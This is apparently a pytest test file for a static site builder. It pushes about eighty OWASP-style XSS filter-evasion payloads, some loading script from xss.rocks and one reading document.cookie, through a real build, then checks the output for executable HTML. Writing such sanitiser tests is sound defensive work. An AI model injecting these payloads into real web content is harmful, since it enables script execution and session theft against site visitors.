"""Nothing from content can inject script: OWASP XSS filter-evasion payloads through a real build.

Each payload goes into a Markdown body, into front matter (title, summary, theme)
and into a plan's Markdown goals; the site is built and every HTML file of the
output, plus the feed's text, is parsed with html.parser and searched for anything
a browser would execute.
"""

from __future__ import annotations

import html
import json
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest

import site_builder.gate as gate
from conftest import build_site, check_site

# From the OWASP XSS Filter Evasion Cheat Sheet, plus Markdown-specific forms.
PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC= onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<SCRIPT SRC=http://xss.rocks/xss.js?< B >",
    '<iframe src=http://xss.rocks/scriptlet.html <',
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><tr><td>x</td></tr></TABLE>",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>",
    "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>",
    '<p style="background:url(http://xss.rocks/x.png)">x</p>',
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv">',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
    '<base href="javascript:alert(1)//">',
    "<details open ontoggle=alert(1)>x</details>",
    '<video><source onerror="alert(1)"></video>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<img src="x` `<script>alert(1)</script>"` `>',
    '<img src="x onerror=alert(1)',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](  javascript:alert(1)  )",
    "[click](<javascript:alert(1)>)",
    "[click](java\tscript:alert(1))",
    "![x](javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[a](vbscript:msgbox(1))",
    "[a][r]\n\n[r]: javascript:alert(1)",
    '[a](/x "title\\" onmouseover=\\"alert(1)")',
    '![a" onerror="alert(1)](x.png)',
    "<http://a.b/\"onmouseover=alert(1)>",
]

# Attribute breaks and tag breaks in front matter (plain text, escaped by Jinja).
FRONT_MATTER_PAYLOADS = [
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    '" onmouseover="alert(1)',
    "</title><script>alert(1)</script>",
    "javascript:alert(1)",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "</textarea><script>alert(1)</script>",
]

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "background", "poster", "srcset", "codebase", "cite", "lowsrc", "dynsrc"}
FORBIDDEN_TAGS = {"iframe", "object", "embed", "frame", "frameset", "applet", "base", "link_import"}
_TAB_OR_NEWLINE = re.compile(r"[\t\n\r]")


def url_as_browser_reads(value: str) -> str:
    """The WHATWG URL parser strips leading/trailing controls and spaces and drops tabs and newlines anywhere."""
    return _TAB_OR_NEWLINE.sub("", value.strip("\x00\x01\x02\x03\x04\x05\x06\x07\x08\t\n\x0b\x0c\r\x0e\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f ")).lower()


class ExecutableFinder(HTMLParser):
    """Collects everything in an HTML document that a browser could execute."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self._tag_stack: list[str] = []
        self._script_has_body = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = {name: value or "" for name, value in attrs}
        if tag in FORBIDDEN_TAGS:
            self.problems.append(f"<{tag}>")
        if tag == "script":
            src = values.get("src", "")
            if not src or url_as_browser_reads(src).startswith(("http:", "https:", "//", "data:", "javascript:")):
                self.problems.append(f"<script src={src!r}>")
            self._tag_stack.append("script")
        if tag == "style":
            self._tag_stack.append("style")
        if tag == "meta" and values.get("http-equiv", "").lower() == "refresh":
            self.problems.append("<meta http-equiv=refresh>")
        if tag == "link" and values.get("rel", "").lower() == "stylesheet":
            href = url_as_browser_reads(values.get("href", ""))
            if href.startswith(("http:", "https:", "//", "data:", "javascript:")):
                self.problems.append(f"<link stylesheet {href!r}>")
        for name, value in values.items():
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}>")
            if name in URL_ATTRIBUTES:
                compact = url_as_browser_reads(value)
                if compact.startswith(("javascript:", "data:", "vbscript:")):
                    self.problems.append(f"<{tag} {name}={value!r}>")
            if name == "style" and re.search(r"url\s*\(|expression\s*\(|@import", value, re.IGNORECASE):
                self.problems.append(f"<{tag} style={value!r}>")

    def handle_endtag(self, tag: str) -> None:
        if self._tag_stack and self._tag_stack[-1] == tag:
            self._tag_stack.pop()

    def handle_data(self, data: str) -> None:
        if not self._tag_stack:
            return
        if self._tag_stack[-1] == "script" and data.strip():
            self.problems.append(f"inline script {data.strip()[:40]!r}")
        if self._tag_stack[-1] == "style" and re.search(r"url\s*\(|expression\s*\(|@import|javascript:", data, re.IGNORECASE):
            self.problems.append(f"style element {data.strip()[:40]!r}")


def executable_parts(document: str) -> list[str]:
    finder = ExecutableFinder()
    finder.feed(document)
    finder.close()
    return finder.problems


def yaml_string(text: str) -> str:
    """A double-quoted YAML scalar (JSON strings are valid YAML)."""
    return json.dumps(text, ensure_ascii=False)


def payload_site() -> dict[str, str]:
    files: dict[str, str] = {}
    for n, payload in enumerate(PAYLOADS):
        files[f"tin-tuc/p{n:02d}.md"] = f"---\ntitle: Bài {n}\ndate: 2024-05-20\n---\nĐoạn mở đầu.\n\n{payload}\n\nĐoạn giữa {payload} trong câu.\n"
    for n, payload in enumerate(FRONT_MATTER_PAYLOADS):
        quoted = yaml_string(payload)
        files[f"chien-dich/f{n:02d}.md"] = (
            f"---\ntitle: {quoted}\ntheme: {quoted}\nsummary: {quoted}\nstart: 2024-06-01\nend: 2024-06-30\n---\nNội dung.\n"
        )
        files[f"tin-tuc/f{n:02d}.md"] = f"---\ntitle: {quoted}\ndate: 2024-05-2{n % 10}\nsummary: {quoted}\n---\n{payload}\n"
    goals = "\n".join(f"  - {yaml_string(p)}" for p in PAYLOADS)
    files["ke-hoach/k.yaml"] = f"title: {yaml_string(FRONT_MATTER_PAYLOADS[0])}\nissuer: {yaml_string(FRONT_MATTER_PAYLOADS[1])}\nyear: 2024\ngoals:\n{goals}\n"
    return files


def test_the_detector_finds_what_it_must() -> None:
    """The assertions below can fail: the detector sees each kind of executable HTML."""
    bad = [
        "<script>alert(1)</script>",
        '<a href=" jav&#x09;ascript:alert(1)">x</a>',
        '<img src="x" onerror="alert(1)">',
        '<p style="background:url(x)">',
        '<iframe src="/"></iframe>',
        '<meta http-equiv="Refresh" content="0;url=/">',
        '<svg><a xlink:href="data:text/html,x">x</a></svg>',
        '<form><button formaction="vbscript:x">',
        '<object data="/x"></object>',
    ]
    for snippet in bad:
        assert executable_parts(snippet), snippet
    assert executable_parts('<script src="../assets/site.1a2b.js" defer></script><a href="tel:111">111</a>') == []


def test_payload_count_meets_the_bar() -> None:
    assert len(PAYLOADS) + len(FRONT_MATTER_PAYLOADS) >= 40 and len(PAYLOADS) >= 40


def test_nothing_executable_survives_a_build(site_dir: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # The gate would (rightly) stop some payloads as broken links or images without
    # alt text; the sanitiser must hold on its own, so the gate is taken out here.
    monkeypatch.setattr(gate, "check_links", lambda *a, **k: None)
    monkeypatch.setattr(gate, "check_images", lambda *a, **k: None)
    built = build_site(site_dir, payload_site(), processes=1)
    assert built.result.ok, built.messages
    pages = sorted(built.out.rglob("*.html"))
    assert len(pages) > len(PAYLOADS)
    problems = {}
    for page in pages:
        found = executable_parts(page.read_text(encoding="utf-8"))
        if found:
            problems[page.relative_to(built.out).as_posix()] = found
    assert problems == {}
    # Feed readers render type="html" parts as HTML; text parts are shown as text.
    feed = built.read("feed.xml")
    for text in re.findall(r"<(?:summary|content|title)[^>]*type=\"(?:html|xhtml)\"[^>]*>(.*?)</", feed, re.DOTALL):
        assert executable_parts(html.unescape(text)) == [], text
    assert "<script" not in feed.lower()
    # Front matter shows as text, escaped, and never as markup.
    title_page = built.read("chien-dich/f00/index.html")
    assert "&#34;&gt;&lt;script&gt;alert(1)&lt;/script&gt;" in title_page or "&quot;&gt;&lt;script&gt;" in title_page


def test_check_reports_script_links_in_bodies_calmly(site_dir: Path) -> None:
    report = check_site(site_dir, payload_site())
    assert all(str(d.location).startswith("content/") for d in report.diagnostics)
